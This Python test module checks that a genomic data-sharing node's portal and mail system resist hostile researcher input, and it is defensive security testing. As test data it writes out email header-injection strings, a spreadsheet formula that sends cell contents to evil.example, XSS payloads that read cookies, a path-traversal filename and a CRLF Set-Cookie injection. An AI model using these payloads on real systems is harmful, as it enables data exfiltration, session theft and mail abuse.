"""A researcher's own words and claims in an access request, turned against the node's mail and reports.

Through ``genoshare serve`` with a real SMTP server (aiosmtpd) behind it: a contact address that lists a
victim's mailbox besides the researcher's (the node would mail its decisions there), a project title with
a line break and a header after it (mail header injection, or a lost notice), and an affiliation visa
that is a spreadsheet formula, in the access report CSV the committee opens in a spreadsheet. The same
node serves the portal attacks on what a request carries (its documents, eleven of them, markup in its
title) and on signing in to make one (a session fixed before sign-in).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from genoshare.access.issuer import VisaIssuer
from genoshare.datasets.service import DatasetService, NewDataset
from genoshare.node import init_node
from genoshare.settings import TrustedIssuer, load_settings
from genoshare.store.models import Dataset
from receivers import MailServer

from portal_support import csrf_token
from processes import Server
from support import TEST_ISSUER, TEST_PASSPORT_POLICY, Passports

pytestmark = pytest.mark.slow
COHORT = "cohort"
COMMITTEE_MAIL = "dac@node.example"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@dataclass
class Served:
    server: Server
    mail: MailServer
    issuer: VisaIssuer
    #: The node's data directory and its SQLite database (with its journal): everything it keeps.
    kept: tuple[Path, Path]

    def researcher(self, affiliation: str = "faculty@university.example") -> str:
        passports = Passports(self.issuer, subject="researcher-1")
        visa = self.issuer.visa("researcher-1", "AffiliationAndRole", affiliation, by="system")
        return self.issuer.passport("researcher-1", [passports.researcher_visa(), visa])

    def submit(self, passport: str, **fields: str) -> httpx.Response:
        body = {"datasets": [COHORT], "purpose": {"primary": "GRU"}, "project_title": "A study", "institution": "Uni"}
        return httpx.post(
            f"{self.server.url}/governance/requests",
            headers={"Authorization": f"Bearer {passport}"},
            json={**body, **fields},
            timeout=30,
        )


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("request-text")
    issuer = VisaIssuer.load_or_create(TEST_ISSUER, root / "issuer.jwk.json")
    issuer.write_jwks(root / "jwks.json")
    settings = load_settings(
        root / "node",
        database_url=f"sqlite:///{root / 'node.db'}",
        trusted_issuers=[TrustedIssuer(issuer=TEST_ISSUER, jwks_file=root / "jwks.json")],
        passports=TEST_PASSPORT_POLICY,
        roles={"stewards": [{"subject": "steward", "issuer": TEST_ISSUER}]},
    )
    built = init_node(settings)
    datasets = DatasetService(built.database)
    datasets.create(NewDataset(COHORT, "A cohort", "Custodian", "controlled", ["GRU"]))
    datasets.set_committee(COHORT, [f"chair@{TEST_ISSUER}"], False)
    with built.database.session() as session:
        row = session.get(Dataset, COHORT)
        assert row is not None
        row.committee_email = COMMITTEE_MAIL
    built.close()
    mail = MailServer(root)
    server = Server(settings.data_dir, {"GENOSHARE_DATABASE_URL": settings.database_url, **mail.env})
    try:
        yield Served(server, mail, issuer, (settings.data_dir, root / "node.db"))
    finally:
        server.stop()
        mail.stop()


def test_a_contact_address_is_one_mailbox_not_a_list_of_victims(node: Served) -> None:
    passport = node.researcher()
    for address in (
        "me@uni.example, victim@else.example",
        "me@uni.example;victim@else.example",
        "me@uni.example\r\nBcc: victim@else.example",
        "me@uni.example victim@else.example",
        "no address at all",
    ):
        answer = node.submit(passport, project_title="Contact", contact_email=address)
        assert answer.status_code == 400, (address, answer.status_code, answer.text[:300])
        assert "contact" in answer.text.lower(), answer.text[:300]
    assert node.submit(passport, project_title="Contact", contact_email="me@uni.example").status_code == 201


def test_a_line_break_in_a_title_neither_adds_a_header_nor_loses_the_notice(node: Served) -> None:
    title = "Line break study\r\nBcc: victim@else.example"
    answer = node.submit(node.researcher(), project_title=title)
    assert answer.status_code in (201, 400), answer.text[:300]
    if answer.status_code == 201:
        message = node.mail.wait_for(lambda m: "Line break study" in str(m["Subject"]))
        assert COMMITTEE_MAIL in str(message["To"])
        assert message["Bcc"] is None and "\n" not in str(message["Subject"]).strip()
    for message in node.mail.messages():
        assert "victim@else.example" not in str(message.get("X-RcptTo", "")), "the node mailed the victim"
        assert message["Bcc"] is None


@contextmanager
def signed_in(node: Served, passport: str) -> Iterator[httpx.Client]:
    """A browser-like portal client signed in by pasting ``passport``."""
    with httpx.Client(base_url=node.server.url, timeout=30, headers={"Origin": node.server.url}) as client:
        page = client.get("/portal/signin")
        signed = client.post(
            "/portal/signin/passport",
            data={"csrf_token": csrf_token(page.text), "passport": passport, "next": "/portal/"},
        )
        assert signed.status_code == 303, signed.text[:300]
        yield client


def test_the_access_report_csv_holds_no_formula(node: Served) -> None:
    assert node.submit(node.researcher(affiliation=FORMULA), project_title="Formula").status_code == 201
    with signed_in(node, Passports(node.issuer, subject="chair").anonymous_researcher()) as client:
        report = client.get(f"/portal/reports/{COHORT}/access-report.csv")
    assert report.status_code == 200, report.text[:300]
    rows = list(csv.reader(io.StringIO(report.text)))
    assert any("HYPERLINK" in cell for row in rows for cell in row), "the affiliation is in the report, as text"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"a spreadsheet would run {cell!r}"


def test_documents_are_served_inert_to_who_may_see_the_request_only(node: Served) -> None:
    """A researcher's upload: a hostile file name, HTML dressed as text; another researcher guesses its address."""
    script = b"<html><script>alert(document.cookie)</script></html>"
    with signed_in(node, node.researcher()) as researcher:
        form = researcher.get("/portal/requests/new")
        fields = {"csrf_token": csrf_token(form.text), "datasets": COHORT, "primary": "GRU"}
        fields |= {"project_title": '<img src=x onerror="alert(1)">', "institution": "Uni"}
        files = [
            ("documents", ('../../etc/"evil"\r\nX-Injected: 1.txt', script, "text/html")),
            ("documents", ("approval.pdf", b"%PDF-1.4 an approval", "application/pdf")),
        ]
        made = researcher.post("/portal/requests", data=fields, files=files)
        assert made.status_code == 303, made.text[:500]
        page = researcher.get(made.headers["location"])
        links = re.findall(r'href="(/portal/documents/[^"]+)"', page.text)
        assert len(links) == 2, page.text[:1000]
        for link in links:
            served = researcher.get(link)
            assert served.status_code == 200
            disposition = served.headers["content-disposition"]
            assert disposition.startswith("attachment;") and "\n" not in disposition and "/" not in disposition
            assert disposition.count('"') == 2, disposition
            assert served.headers["x-content-type-options"] == "nosniff"
            assert "x-injected" not in served.headers
            assert not served.headers["content-type"].startswith("text/html"), served.headers["content-type"]
    # Kept encrypted: no file of the node, its database included, holds either document's bytes.
    data_dir, database = node.kept
    for path in [*database.parent.glob(f"{database.name}*"), *(p for p in data_dir.rglob("*") if p.is_file())]:
        content = path.read_bytes()
        assert script not in content and b"an approval" not in content, f"{path} holds a document in the clear"
    # Someone else with a passport, and the committee member: only the second opens them.
    stranger = Passports(node.issuer, subject="researcher-2").anonymous_researcher()
    request_id = made.headers["location"].rsplit("/", 1)[1]
    with signed_in(node, stranger) as other:
        for link in links:
            assert other.get(link).status_code == 404, link
        # Nor the request itself, by its id, on the researcher's or the committee's page.
        assert other.get(f"/portal/requests/{request_id}").status_code == 404
        assert other.get(f"/portal/committee/requests/{request_id}").status_code == 403
    with signed_in(node, Passports(node.issuer, subject="chair").anonymous_researcher()) as chair:
        inbox = chair.get("/portal/committee")
        assert inbox.status_code == 200
        assert '<img src=x onerror="alert(1)">' not in inbox.text and "&lt;img src=x" in inbox.text
        for link in links:
            assert chair.get(link).status_code == 200, link


def test_a_refused_upload_leaves_no_request_behind(node: Served) -> None:
    """Eleven documents (ten is the most a request holds): refused, and no request made without them."""
    passport = node.researcher()
    with signed_in(node, passport) as researcher:
        form = researcher.get("/portal/requests/new")
        fields = {"csrf_token": csrf_token(form.text), "datasets": COHORT, "primary": "GRU"}
        fields |= {"project_title": "Too many papers", "institution": "Uni"}
        files = [("documents", (f"paper-{n}.txt", b"a page", "text/plain")) for n in range(11)]
        refused = researcher.post("/portal/requests", data=fields, files=files)
    assert refused.status_code == 400, refused.status_code
    mine = httpx.get(
        f"{node.server.url}/governance/requests", headers={"Authorization": f"Bearer {passport}"}, timeout=30
    )
    assert mine.status_code == 200
    assert not [r for r in mine.json() if r["project_title"] == "Too many papers"], "a half-made request was kept"


def test_signing_in_starts_a_new_session_and_token(node: Served) -> None:
    """Session fixation: a cookie (and form token) a visitor held before signing in opens nothing after."""
    with httpx.Client(base_url=node.server.url, timeout=30, headers={"Origin": node.server.url}) as client:
        # A visitor's pages make no session; choosing a language does: that is the session to fix.
        chosen = client.post(
            "/portal/language", data={"lang": "en", "csrf_token": csrf_token(client.get("/portal/signin").text)}
        )
        assert chosen.status_code == 303
        page = client.get("/portal/signin")
        before, old_token = client.cookies["genoshare_session"], csrf_token(page.text)
        signed = client.post(
            "/portal/signin/passport", data={"csrf_token": old_token, "passport": node.researcher(), "next": "/"}
        )
        assert signed.status_code == 303
        after = client.cookies["genoshare_session"]
        assert after != before, "the visitor's session became the signed-in one"
        assert client.get("/portal/requests").status_code == 200
        refused = client.post("/portal/signout", data={"csrf_token": old_token})
        assert refused.status_code == 403, "the visitor's form token still works in the signed-in session"
    with httpx.Client(base_url=node.server.url, timeout=30, cookies={"genoshare_session": before}) as planted:
        answer = planted.get("/portal/requests")
        assert answer.status_code == 303 and answer.headers["location"].startswith("/portal/signin")


def test_a_committee_address_with_a_header_after_it_is_refused(node: Served) -> None:
    """The steward's form: an address list whose line break would start a Bcc header (or lose every notice)."""
    with signed_in(node, Passports(node.issuer, subject="steward").anonymous_researcher()) as steward:
        page = steward.get(f"/portal/steward/datasets/{COHORT}")
        assert page.status_code == 200, page.text[:300]
        token = csrf_token(page.text)
        for address in (f"{COMMITTEE_MAIL}\r\nBcc: victim@else.example", f"{COMMITTEE_MAIL}, Dr Who <who@x>"):
            refused = steward.post(
                f"/portal/steward/datasets/{COHORT}/terms", data={"csrf_token": token, "committee_email": address}
            )
            assert refused.status_code == 400, (address, refused.status_code)
        kept = steward.get(f"/portal/steward/datasets/{COHORT}")
        assert COMMITTEE_MAIL in kept.text and "victim@else.example" not in kept.text


def test_the_report_of_no_dataset_is_a_404_whatever_its_name(node: Served) -> None:
    """A steward passes every committee check: a dataset that does not exist must still be said so."""
    with signed_in(node, Passports(node.issuer, subject="steward").anonymous_researcher()) as steward:
        for name in ("no-such-dataset", "x%0D%0ASet-Cookie:%20planted=1"):
            answer = steward.get(f"/portal/reports/{name}/access-report.csv")
            assert answer.status_code == 404, (name, answer.status_code, answer.text[:200])
            assert "planted" not in answer.headers.get("set-cookie", "")
    assert "Traceback" not in node.server.log


def test_manifests_and_passports_only_for_their_holder(node: Served) -> None:
    """No grant, no manifest (a 404 that names no file); no sign-in, no node-signed passport."""
    with signed_in(node, Passports(node.issuer, subject="researcher-3").anonymous_researcher()) as client:
        for kind in ("json", "tsv"):
            answer = client.get(f"/portal/downloads/{COHORT}/manifest.{kind}")
            assert answer.status_code == 404 and "drs://" not in answer.text, (kind, answer.status_code)
    with httpx.Client(base_url=node.server.url, timeout=30) as anonymous:
        for path in ("/portal/downloads/passport.jwt", f"/portal/downloads/{COHORT}/manifest.json"):
            answer = anonymous.get(path)
            assert answer.status_code == 303 and answer.headers["location"].startswith("/portal/signin"), path
